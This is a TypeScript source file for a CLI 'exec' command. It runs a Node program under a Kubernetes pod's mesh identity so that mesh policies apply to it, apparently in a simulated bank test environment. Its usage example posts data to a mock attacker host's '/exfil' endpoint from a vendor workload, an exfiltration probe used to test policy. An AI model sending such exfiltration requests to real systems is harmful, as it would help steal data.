// `trustusbank exec -n NS <workload> -- <command…>`: run a command inside a workload's pod network identity,
// like `kubectl exec`: its connections are captured and carried by ztunnel under the pod's SPIFFE identity,
// so policies apply to it exactly as to the pod. The command must be a Node program (`node …` or
// `trustusbank …`, e.g. `trustusbank curl`): the capture is a Node preload.
import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { DATA_DIR_ENV } from '../../core/data-dir.ts';
import { UsageError, UserError } from '../../core/errors.ts';
import type { CaptureInit } from '../../mesh/capture/protocol.ts';
import { CLI_BIN } from '../bin-path.ts';
import { parseCommandArgs, type Command } from '../command.ts';
import { stackClient } from '../stack-client.ts';

const usage = `Usage: trustusbank exec -n NAMESPACE <workload> [--data-dir DIR] -- <command> [args…]

Run a command with the network identity of one of the workload's pods: every connection it makes is
captured and carried by ztunnel as that pod (its SPIFFE identity, its policies). The command must be a
Node program: \`trustusbank …\` (for example \`trustusbank curl URL\`) or \`node script.js …\`.

Example:
  trustusbank exec -n trustusbank-bank-vendors currency-converter -- \\
    trustusbank curl -X POST -d '{"probe":true}' http://mock-attacker.external-attacker.svc.cluster.local:8080/exfil

Options:
  -n, --namespace NS   the workload's namespace
  --data-dir DIR       state directory (default: ${DATA_DIR_ENV} or .trustusbank)
  -h, --help           show this help`;

export const execCommand: Command = {
  name: 'exec',
  summary: "run a command with a pod's identity and capture (like kubectl exec)",
  usage,
  async run(argv) {
    const split = argv.indexOf('--');
    const own = split === -1 ? argv : argv.slice(0, split);
    const command = split === -1 ? [] : argv.slice(split + 1);
    const { values, positionals } = parseCommandArgs(own, { namespace: { type: 'string', short: 'n' }, 'data-dir': { type: 'string' } }, usage);
    const [workload, ...extra] = positionals;
    if (workload === undefined) throw new UsageError('which workload?', usage);
    if (extra.length > 0) throw new UsageError(`unexpected argument "${extra[0]}" (put the command after --)`, usage);
    if (values.namespace === undefined) throw new UsageError(`which namespace is ${workload} in? give -n NAMESPACE`, usage);
    if (command.length === 0) throw new UsageError('which command? put it after --', usage);
    const [program, ...args] = command as [string, ...string[]];
    let nodeArgs: string[];
    if (program === 'trustusbank') nodeArgs = [CLI_BIN, ...args];
    else if (program === 'node' || program === process.execPath) nodeArgs = args;
    else throw new UsageError(`exec runs Node programs (trustusbank …, node …); "${program}" is not one, so its connections could not be captured`, usage);

    const stack = stackClient(values['data-dir']);
    const shim = join(stack.dataDir, 'mesh', 'capture.mjs');
    if (!existsSync(shim)) throw new UserError(`the capture shim is missing from ${shim}; restart the stack`);
    const grant = await stack.call<{ init: CaptureInit; pod: string; identity: string }>('POST', '/exec', { namespace: values.namespace, workload });
    try {
      const child = spawn(process.execPath, ['--import', pathToFileURL(shim).href, ...nodeArgs], { stdio: ['inherit', 'inherit', 'inherit', 'ipc'] });
      child.send(grant.init);
      const code = await new Promise<number>((resolve) => child.once('exit', (exitCode, signal) => resolve(exitCode ?? (signal ? 128 : 1))));
      return code;
    } finally {
      await stack.call('POST', '/exec/release', { token: grant.init.token }).catch(() => undefined);
    }
  },
};
